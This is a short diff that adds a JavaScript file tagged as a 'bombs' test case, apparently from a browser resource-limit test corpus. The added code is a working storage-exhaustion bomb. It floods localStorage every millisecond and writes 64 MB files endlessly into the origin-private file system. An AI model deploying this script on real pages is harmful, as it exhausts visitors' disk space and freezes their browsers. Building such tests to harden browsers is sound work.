@@ -1,0 +1,2 @@
+/* {"family": "bombs", "bomb": true, "watch": 6000} */
+setInterval(() => { try { localStorage.setItem(String(Math.random()), 'x'.repeat(1 << 20)); } catch {} }, 1); navigator.storage.getDirectory().then(async (dir) => { for (let i = 0; ; i++) { const file = await (await dir.getFileHandle(`f${i}`, { create: true })).createWritable(); await file.write(new Uint8Array(64 << 20)); await file.close(); } });
